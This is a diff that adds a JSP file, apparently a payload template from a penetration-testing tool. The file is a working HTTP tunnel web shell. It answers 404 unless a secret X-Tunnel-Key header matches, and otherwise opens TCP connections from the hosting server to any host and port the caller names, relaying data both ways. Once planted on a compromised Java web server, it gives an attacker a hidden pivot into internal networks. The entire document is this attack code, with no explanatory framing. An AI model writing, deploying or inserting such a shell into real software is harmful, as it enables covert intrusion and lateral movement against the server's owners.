@@ -0,0 +1,81 @@
+<%@page import="java.io.*,java.net.InetSocketAddress,java.nio.ByteBuffer,java.nio.channels.SocketChannel"%><%
+    String key = "{{key}}";
+    if (!"POST".equals(request.getMethod()) || !key.equals(request.getHeader("X-Tunnel-Key"))) {
+        response.setStatus(404);
+        return;
+    }
+    String cmd = request.getHeader("X-Tunnel-Cmd");
+    String id = "yak_tunnel_" + request.getHeader("X-Tunnel-Id");
+    String status = "OK";
+    String error = "";
+    byte[] data = new byte[0];
+    try {
+        if ("CONNECT".equals(cmd)) {
+            String target = request.getHeader("X-Tunnel-Target");
+            int idx = target.lastIndexOf(':');
+            String host = target.substring(0, idx).replace("[", "").replace("]", "");
+            int port = Integer.parseInt(target.substring(idx + 1));
+            SocketChannel channel = SocketChannel.open();
+            channel.socket().connect(new InetSocketAddress(host, port), 10000);
+            channel.configureBlocking(false);
+            application.setAttribute(id, channel);
+        } else if ("DISCONNECT".equals(cmd)) {
+            SocketChannel channel = (SocketChannel) application.getAttribute(id);
+            application.removeAttribute(id);
+            if (channel != null) {
+                channel.close();
+            }
+        } else if ("READ".equals(cmd)) {
+            SocketChannel channel = (SocketChannel) application.getAttribute(id);
+            if (channel == null) {
+                throw new IOException("connection closed");
+            }
+            ByteArrayOutputStream buffer = new ByteArrayOutputStream();
+            ByteBuffer buf = ByteBuffer.allocate(8192);
+            int n = 0;
+            while (buffer.size() < 524288 && (n = channel.read(buf)) > 0) {
+                buffer.write(buf.array(), 0, n);
+                buf.clear();
+            }
+            if (n < 0 && buffer.size() == 0) {
+                application.removeAttribute(id);
+                channel.close();
+                throw new IOException("connection closed");
+            }
+            data = buffer.toByteArray();
+        } else if ("FORWARD".equals(cmd)) {
+            SocketChannel channel = (SocketChannel) application.getAttribute(id);
+            if (channel == null) {
+                throw new IOException("connection closed");
+            }
+            ByteArrayOutputStream buffer = new ByteArrayOutputStream();
+            InputStream in = request.getInputStream();
+            byte[] tmp = new byte[8192];
+            int n;
+            while ((n = in.read(tmp)) > 0) {
+                buffer.write(tmp, 0, n);
+            }
+            ByteBuffer buf = ByteBuffer.wrap(buffer.toByteArray());
+            while (buf.hasRemaining()) {
+                if (channel.write(buf) == 0) {
+                    Thread.sleep(5);
+                }
+            }
+        } else if (!"PING".equals(cmd)) {
+            throw new IOException("unknown command");
+        }
+    } catch (Exception e) {
+        status = "FAIL";
+        error = String.valueOf(e.getMessage()).replace('\r', ' ').replace('\n', ' ');
+    }
+    response.setContentType("application/octet-stream");
+    response.setHeader("X-Tunnel-Status", status);
+    if (error.length() > 0) {
+        response.setHeader("X-Tunnel-Error", error);
+    }
+    OutputStream os = response.getOutputStream();
+    os.write(data);
+    os.flush();
+    out.clear();
+    out = pageContext.pushBody();
+%>
\ No newline at end of file